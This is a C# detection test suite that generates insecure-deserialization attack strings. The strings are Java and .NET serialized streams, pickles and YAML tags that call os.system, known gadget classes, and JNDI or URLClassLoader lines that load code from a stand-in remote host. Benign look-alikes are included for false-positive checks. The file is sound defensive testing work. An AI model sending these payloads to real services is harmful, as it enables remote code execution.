using System.Text;
using FunctionShield.Findings;

namespace FunctionShield.Tests.Detection.Suites;

/// <summary>Object graphs that name their types: Java's and .NET's streams, pickles, Marshal, PHP, YAML tags, JSON's type properties, XAML.</summary>
internal static class SerializedGrammar
{
    public static ClassSuite Suite { get; } = new()
    {
        Rule = Rule.DeserializationInput,
        Places = ["query.data", "body.state", "cookie.session", "body.payload", "header.x-token", "query.q"],
        Encodes = false,
        Logged = 97,
        Blocked = 90,
        Attacks =
        [
            "«java»", "«javahex»", "«binary»", "«viewstate»", "«pickle0»", "«pickle»", "«marshal»",
            "«php»", "a:1:{i:0;«php»}", "O:8:\"stdClass\":1:{s:1:\"«letter»\";«php»}", "!!python/object/apply:os.system ['«key»']", "«noun»: !!python/object/new:«module».«name» [«number»]", "!!python/name:«module».«name»", "--- !ruby/object:Gem::«type»\n«noun»: «number»",
            "- !ruby/hash:ActionController::«type» {«noun»: «number»}", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://«site»/«key»\"]]]]", "«noun»: !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://«site»/«key»', autoCommit: true}", "!<tag:yaml.org,2002:python/object/apply:«module».«name»> ['«key»']",
            "‹json›{\"$type\":\"«gadget»\",\"«noun»\":«number»}", "‹json›{\"«noun»\":{\"$type\":\"«gadget»\",\"«key»\":\"«noun»\"}}", "‹json›{\"@type\":\"«jgadget»\",\"«key»\":\"«noun»\"}", "‹json›{\"«noun»\":{\"@class\":\"«jgadget»\",\"«key»\":true}}", "‹json›{\"__type\":\"«gadget»\",\"«key»\":1}", "{'$type':'«gadget»','«key»':'«noun»'}", "[\"«jgadget»\",{\"«key»\":\"ldap://«site»/\"}]",
            "{\"«noun»\":\"_$$ND_FUNC$$_function(){return «number»}()\"}", "_$$ND_FUNC$$_function (){require('«noun»')}()",
            "<ObjectDataProvider MethodName=\"«name»\" xmlns:«letter»=\"clr-namespace:System.Diagnostics;assembly=System\"/>", "<java class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"><void method=\"start\"/><string>«key»</string></object></java>", "<sorted-set><dynamic-proxy><interface>java.lang.«type»</interface></dynamic-proxy></sorted-set>",
        ],
        Twins =
        [
            "«blob»", "«blob»", "«png»", "«jwt»", "«text64»", "/wEPDwUK«text64»", "a:2:{s:«number»:\"«noun»\";i:0;i:«number»;}", "s:5:\"hello\";", "i:«number»;", "b:1;", "a:0:{}", "O: «number» items", "O:positive (8:30)", "C:\\«noun»\\«noun»", "!Ref «noun»", "!Sub '${«noun»}-«key»'", "!GetAtt «noun».Arn", "«noun»: !include «noun».yml", "!vault |\n «number»", "!!str «number»", "!!int \"«number»\"", "!!binary «text64»",
            "‹json›{\"$type\":\"«noun»\",\"size\":«number»}", "‹json›{\"@type\":\"Person\",\"name\":\"«first»\"}", "‹json›{\"@context\":\"https://schema.org\",\"@type\":\"«type»\",\"name\":\"«key»\"}", "‹json›{\"@class\":\"«noun»\",\"id\":«number»}", "‹json›{\"type\":\"System.String\",\"value\":\"«key»\"}", "‹json›{\"__typename\":\"«type»\",\"id\":«number»}",
            "‹json›{\"$type\":\"System.Collections.Generic.List`1[[System.String, mscorlib]], mscorlib\",\"$values\":[\"«key»\"]}", "<bean id=\"«noun»\" class=\"com.acme.«type»\"/>", "<div class=\"java\">«noun»</div>", "<Button Content=\"«noun»\" Click=\"«key»\"/>", "system («noun»)", "os\nsystem\n«noun»", "cos\nsin\n«noun»", "java.util.List of «noun»", "How does ObjectDataProvider work?", "aced the «noun»!", "rO0«key»", "gASV is «adjective»",
        ],
        Grammar = new TextGrammar
        {
            ["letter"] = ["a", "b", "x", "p"],
            ["module"] = ["os", "posix", "subprocess", "builtins", "__builtin__", "nt"],
            ["name"] = ["system", "popen", "Popen", "eval", "exec", "call"],
            ["type"] = ["Installer", "Requirement", "Parameters", "Comparable", "Widget", "Product", "Event"],
            ["gadget"] =
            [
                "System.Windows.Data.ObjectDataProvider, PresentationFramework", "System.Diagnostics.Process, System", "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install", "System.IO.FileInfo, System.IO.FileSystem",
                "System.Management.Automation.PSObject, System.Management.Automation", "System.Security.Principal.WindowsIdentity, mscorlib", "System.Activities.Presentation.WorkflowDesigner, System.Activities.Presentation", "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties, Microsoft.PowerShell.Editor",
            ],
            ["jgadget"] = ["com.sun.rowset.JdbcRowSetImpl", "java.net.URLClassLoader", "org.apache.xalan.xsltc.trax.TemplatesImpl", "com.mchange.v2.c3p0.JndiRefForwardingDataSource", "org.springframework.context.support.ClassPathXmlApplicationContext", "ch.qos.logback.core.db.JNDIConnectionSource", "javax.script.ScriptEngineManager", "java.lang.Class"],
        }
            .With("java", chooser => Convert.ToBase64String(Java(chooser)))
            .With("javahex", chooser => chooser.Below(2) == 0 ? Convert.ToHexString(Java(chooser)) : Convert.ToHexStringLower(Java(chooser)))
            .With("binary", chooser => Convert.ToBase64String([0, 1, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 1, 0, 0, 0, 0, 0, 0, 0, 12, 2, 0, 0, 0, .. Sized(chooser)]))
            .With("viewstate", chooser => Convert.ToBase64String([0xFF, 1, 50, .. chooser.Bytes(40)]))
            .With("pickle0", chooser => $"c{chooser.One(Modules)}\n{chooser.One(Functions)}\n(S'{chooser.Below(9999)}'\ntR.")
            .With("pickle", chooser => Convert.ToBase64String(Pickle(chooser)))
            .With("marshal", chooser => Convert.ToBase64String([4, 8, (byte)'o', (byte)':', .. Sized(chooser), .. chooser.Bytes(8)]))
            .With("php", chooser => chooser.One(Classes) is var name ? $"O:{name.Length}:\"{name}\":1:{{s:4:\"{chooser.One(Functions)}\";i:{chooser.Below(999)};}}" : "")
            .With("blob", chooser => Convert.ToBase64String([(byte)(0x20 + chooser.Below(96)), .. chooser.Bytes(24 + chooser.Below(60))]))
            .With("png", chooser => Convert.ToBase64String([0x89, 0x50, 0x4E, 0x47, 13, 10, 26, 10, .. chooser.Bytes(48)]))
            .With("text64", chooser => Convert.ToBase64String(Encoding.ASCII.GetBytes($"note {chooser.Below(9999)} on page {chooser.Below(9999)}, no more")))
            .With("jwt", chooser => "eyJhbGciOiJIUzI1NiJ9." + Convert.ToBase64String(Encoding.ASCII.GetBytes($"{{\"sub\":\"{chooser.Below(99999)}\"}}")).TrimEnd('=') + "." + Convert.ToHexString(chooser.Bytes(16))),
    };

    private static string[] Modules => ["os", "posix", "nt", "subprocess", "__builtin__"];

    private static string[] Functions => ["system", "popen", "eval", "exec", "call"];

    private static string[] Classes => ["Monolog\\Handler\\SyslogUdpHandler", "GuzzleHttp\\Psr7\\FnStream", "PDO", "SplFileObject", "Illuminate\\Broadcasting\\PendingBroadcast", "SoapClient", "Widget"];

    /// <summary>STREAM_MAGIC, STREAM_VERSION, TC_OBJECT, TC_CLASSDESC, a class's name.</summary>
    private static byte[] Java(Chooser chooser) => [0xAC, 0xED, 0, 5, 0x73, 0x72, 0, .. Sized(chooser), .. chooser.Bytes(8), 2, 0, 0, 0x78, 0x70];

    private static byte[] Sized(Chooser chooser)
    {
        byte[] name = Encoding.ASCII.GetBytes(chooser.One(["java.util.PriorityQueue", "java.util.HashMap", "System.Data.DataSet", "Gem::Installer", "java.lang.Runtime"]));
        return [(byte)name.Length, .. name];
    }

    /// <summary>PROTO, perhaps a FRAME, GLOBAL or STACK_GLOBAL, an argument, TUPLE1, REDUCE, STOP.</summary>
    private static byte[] Pickle(Chooser chooser)
    {
        byte[] module = Encoding.ASCII.GetBytes(chooser.One(Modules)), name = Encoding.ASCII.GetBytes(chooser.One(Functions)), argument = Encoding.ASCII.GetBytes($"id {chooser.Below(9999)}");
        if (chooser.Below(2) == 0)
            return [0x80, (byte)(2 + chooser.Below(2)), (byte)'c', .. module, 10, .. name, 10, (byte)'X', (byte)argument.Length, 0, 0, 0, .. argument, 0x85, (byte)'R', (byte)'.'];
        byte[] body = [0x8C, (byte)module.Length, .. module, 0x94, 0x8C, (byte)name.Length, .. name, 0x94, 0x93, 0x94, 0x8C, (byte)argument.Length, .. argument, 0x94, 0x85, 0x94, (byte)'R', 0x94, (byte)'.'];
        return [0x80, (byte)(4 + chooser.Below(2)), 0x95, (byte)body.Length, 0, 0, 0, 0, 0, 0, 0, .. body];
    }
}
